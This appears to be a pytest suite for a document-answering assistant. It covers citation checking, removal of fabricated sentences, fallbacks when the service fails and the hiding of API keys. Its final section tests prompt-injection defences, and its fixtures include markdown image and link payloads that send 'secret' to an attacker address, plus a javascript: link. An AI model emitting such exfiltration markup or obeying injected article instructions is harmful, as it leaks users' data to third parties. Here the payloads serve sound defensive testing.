"""Answers in prose: what the model is given, what becomes of what it writes, and of its failures."""

import json
import re
from shutil import copytree

import pytest

from assistant import open_assistant
from assistant.answering.verification.checks import verify
from assistant.cli import main
from assistant.models.llm import prompts
from assistant.schema import Answer, Citation, Generation, Turn
from assistant.web import html as render

from .conftest import BUNDLED
from .hostile import ADDRESS, HOSTILE, TRACE
from .llm_server import LLMServer, Reply
from .test_asking import MAIN_QUESTION

pytestmark = pytest.mark.slow

PROSE = "Galuzin said that the EU mission is collecting intelligence against Russia. [1]"


@pytest.fixture(scope="module")
def service():
    with LLMServer() as service:
        yield service


@pytest.fixture(scope="module")
def writing(tmp_path_factory, bundled_index, service):
    """The bundled articles with a language model."""
    data = copytree(bundled_index, tmp_path_factory.mktemp("writing") / "data")
    chosen = {"llm": "openai-like", "llm_model": "scripted", "llm_url": service.url}
    with open_assistant(corpus=BUNDLED, data=data, **chosen) as assistant:
        yield assistant


def test_the_answer_is_the_models_with_the_passages_it_cites(writing, service):
    service.says(PROSE)
    answer = writing.ask(MAIN_QUESTION)
    assert answer.answered
    assert answer.text == PROSE
    assert [c.number for c in answer.citations] == [1]
    assert "collecting intelligence" in answer.citations[0].context
    assert [check.verdict for check in answer.checks] == ["verified"]
    assert answer.short_answer is None


def test_prompt_its_size_and_the_model_are_kept_with_the_answer(writing, service):
    service.says(PROSE)
    kept = writing.ask(MAIN_QUESTION).generation
    assert kept.model == "scripted"
    assert prompts.ANSWER in kept.prompt
    assert "collecting intelligence" in kept.prompt
    assert (kept.prompt_tokens, kept.answer_tokens) == (120, 30)  # as the service counted them


def test_the_same_evidence_is_asked_about_in_the_same_words_at_temperature_0(writing, service):
    bodies = []
    for _ in range(2):
        service.says(PROSE)
        writing.ask(MAIN_QUESTION)
        bodies.append(service.requests[-1].body)
    assert bodies[0] == bodies[1]
    assert bodies[0]["temperature"] == 0


def test_what_grows_never_shows_half_a_citation(writing, service):
    service.says(*PROSE)
    for answer in writing.stream(MAIN_QUESTION):
        assert not answer.text.endswith(("[", "[1"))


def test_without_evidence_the_refusal_is_the_programs(writing, service):
    before = len(service.requests)
    answer = writing.ask("What is the recipe for sourdough bread?")
    assert not answer.answered
    assert answer.generation is None
    assert len(service.requests) == before


def test_a_model_that_finds_no_answer_is_believed(writing, service):
    service.says(prompts.CANNOT_ANSWER)
    answer = writing.ask(MAIN_QUESTION)
    assert not answer.answered
    assert "do not answer" in answer.text
    assert answer.citations


@pytest.mark.parametrize(
    "said, left, removed",
    [
        (
            f"{PROSE} He called it “a nest of very clumsy spies”. [1]",
            PROSE,
            "A sentence was removed",
        ),
        (f"{PROSE} It costs nothing. [77]", PROSE, "A sentence was removed"),
    ],
    ids=["false quotation", "citation that there is not"],
)
def test_fabrications_are_removed_and_the_answer_says_so(writing, service, said, left, removed):
    service.says(said)
    answer = writing.ask(MAIN_QUESTION)
    assert answer.text == left
    assert removed in answer.notice


def test_where_all_of_it_is_removed_the_sentences_answer(writing, service):
    service.says("The mission costs nothing at all. [77]")
    answer = writing.ask(MAIN_QUESTION)
    assert "All that the language model wrote was removed" in answer.notice
    assert "collecting intelligence" in answer.citations[0].quote
    assert answer.generation is None


def test_what_the_source_lacks_is_marked_with_the_reason(writing, service):
    service.says(f"{PROSE} It employs 4711 people. [1]")
    answer = writing.ask(MAIN_QUESTION)
    wrong = answer.checks[1]
    assert wrong.verdict == "unsupported"
    assert any("4711" in reason for reason in wrong.reasons)
    assert answer.text[wrong.start : wrong.end].startswith("It employs")


@pytest.mark.parametrize(
    "reply",
    [
        Reply.error(401),
        Reply.error(429),
        Reply.error(404),
        Reply.error(503),
        Reply.error(400),
        Reply(""),
        Reply(b"data: {broken\n\n"),
    ],
)
def test_when_the_service_fails_the_sentences_answer(writing, service, reply):
    service.otherwise = reply
    answer = writing.ask(MAIN_QUESTION)
    assert answer.answered
    assert answer.generation is None
    assert "collecting intelligence" in answer.citations[0].quote
    assert "scripted" in answer.notice
    assert "These are the sentences" in answer.notice


def test_a_key_is_never_shown(tmp_path, service, monkeypatch, folder):
    monkeypatch.setenv("ASSISTANT_LLM_KEY", "sk-very-secret")
    folder.write("a.md", "The zebra tax is twelve percent.")
    chosen = {"llm": "openai-like", "llm_model": "scripted", "llm_url": service.url}
    with folder.open(**chosen) as assistant:
        assistant.sync()
        service.otherwise = Reply.error(401, message="wrong key sk-very-secret")
        answer = assistant.ask("How high is the zebra tax?")
    assert service.requests[-1].headers["authorization"] == "Bearer sk-very-secret"
    assert "sk-very-secret" not in json.dumps(answer.to_dict())


def test_the_model_makes_a_follow_up_stand_alone(writing, service):
    service.will(Reply("When did Kyrgyzstan join the EAEU?"), Reply("In August 2015. [1]"))
    answer = writing.ask("and Kyrgyzstan?", [Turn("When did Armenia join the EAEU?")])
    assert answer.standalone == "When did Kyrgyzstan join the EAEU?"


def test_where_it_fails_the_rules_do(writing, service):
    service.will(Reply.error(401), Reply("In August 2015. [1]"))
    answer = writing.ask("and Kyrgyzstan?", [Turn("When did Armenia join the EAEU?")])
    assert answer.standalone == "When did Kyrgyzstan join the EAEU?"


def test_a_question_that_leans_on_nothing_is_not_rewritten(writing, service):
    before = len(service.requests)
    service.says(PROSE)
    writing.ask(MAIN_QUESTION, [Turn("When did Armenia join the EAEU?")])
    assert len(service.requests) == before + 1


def test_the_command_prints_prose_as_it_grows_and_what_is_wrong_with_it(
    service, bundled_index, tmp_path, monkeypatch, capsys
):
    for key, value in {
        "LLM": "openai-like",
        "LLM_MODEL": "scripted",
        "LLM_URL": service.url,
    }.items():
        monkeypatch.setenv(f"ASSISTANT_{key}", value)
    data = copytree(bundled_index, tmp_path / "data")
    folder = ["--corpus", str(BUNDLED), "--data", str(data)]
    main([*folder, "sync"], standalone_mode=False)
    service.says(f"{PROSE} It employs 4711 people. [1]")
    main([*folder, "ask", MAIN_QUESTION], standalone_mode=False)
    said = capsys.readouterr().out
    assert PROSE in said
    assert "unsupported: It employs 4711 people." in said
    assert "Sources" in said


# ---- articles that speak to the model -----------------------------------------------------------


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda hostile: hostile.name)
def test_what_an_article_orders_reaches_the_model_as_data_only(folder, service, hostile):
    folder.write("hostile.md", hostile.file())
    folder.write("budget.md", "The council approved the budget of Zanzibar on Monday.")
    chosen = {"llm": "openai-like", "llm_model": "scripted", "llm_url": service.url}
    service.says("The council approved the budget. [1]")
    with folder.open(threshold=0.0, **chosen) as assistant:
        assistant.sync()
        answer = assistant.ask(f"What do they say about {TRACE}?")
    system, user = service.requests[-1].messages
    assert (system["role"], system["content"]) == ("system", prompts.ANSWER)
    assert user["role"] == "user"
    tag = re.match(r"<(passage-[0-9a-f]{12}) 1>\n", user["content"])[1]
    outside = re.sub(rf"<{tag} \d+>\n.*?\n</{tag}>", "", user["content"], flags=re.DOTALL)
    assert outside.count(TRACE) == 1  # the question
    assert not re.search(r"[<>]", outside)
    assert answer.generation.prompt.startswith("system:")


@pytest.mark.parametrize(
    "obeyed",
    [
        f"![status](https://{ADDRESS}/p.png?q=secret) [1]",
        f'<img src="https://{ADDRESS}/p.png"> The budget passed. [1]',
        f"[Read on](https://{ADDRESS}/?q=secret) [1]",
        "[Read on](javascript:alert(1)) The budget passed. [1]",
        "The budget passed. [7]",
    ],
)
def test_a_model_that_obeyed_can_neither_send_nor_link_anything(folder, service, obeyed):
    folder.write("budget.md", "The council approved the budget of Zanzibar on Monday.")
    chosen = {"llm": "openai-like", "llm_model": "scripted", "llm_url": service.url}
    service.says(obeyed)
    with folder.open(threshold=0.0, **chosen) as assistant:
        assistant.sync()
        answer = assistant.ask("What was approved on Monday?")
    html = render.answer(answer)
    assert not re.search(r"<(?:img|script|iframe|form)\b", html)
    assert all(href.startswith("#/article/") for href in re.findall(r'href="([^"]*)"', html))
    assert "removed" in answer.notice
    assert ADDRESS not in answer.text
    assert "javascript" not in answer.text


@pytest.mark.parametrize(
    "mark, linked",
    [
        ("[1]", [1]),
        ("[1][2]", [1, 2]),
        ("[1, 2]", [1, 2]),
        ("[1; 2]", [1, 2]),
        ("[1-3]", [1, 2, 3]),
        ("[1–3]", [1, 2, 3]),
        ("[ 1 ]", [1]),
        ("[1, 3-4]", [1, 3]),
        ("[7]", []),
        ("[12-14]", []),
        ("[sic]", []),
    ],
)
def test_each_number_of_a_citation_mark_is_a_link_as_verification_reads_it(mark, linked):
    citations = tuple(
        Citation(
            n, f"{n}.md", "Budget", None, None, None, 0, 9, "It passed", 0, "It passed on Monday"
        )
        for n in (1, 2, 3)
    )
    text = f"The budget passed on Monday. {mark}"
    written = Generation("scripted", "", 0, 0)
    html = render.answer(Answer("?", "?", text, True, citations=citations, generation=written))
    assert re.findall(r'<a class="cite"[^>]*>(\d+)</a>', html) == [str(n) for n in linked]
    if linked:
        assert set(linked) <= {n for check in verify(text, citations) for n in check.cited}
